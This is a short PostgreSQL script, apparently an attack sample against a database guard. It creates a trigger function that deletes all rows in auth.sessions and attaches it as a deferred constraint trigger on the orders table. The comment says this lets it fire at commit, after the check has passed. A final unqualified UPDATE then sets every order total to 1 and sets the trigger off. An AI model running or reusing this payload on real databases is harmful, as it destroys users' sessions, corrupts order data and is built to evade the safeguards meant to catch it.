-- A trigger that waits for the commit, when the fence has looked.
-- object: table auth.sessions
CREATE FUNCTION shop_evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM auth.sessions; RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER orders_evil AFTER UPDATE ON orders DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION shop_evil();
UPDATE orders SET total = 1
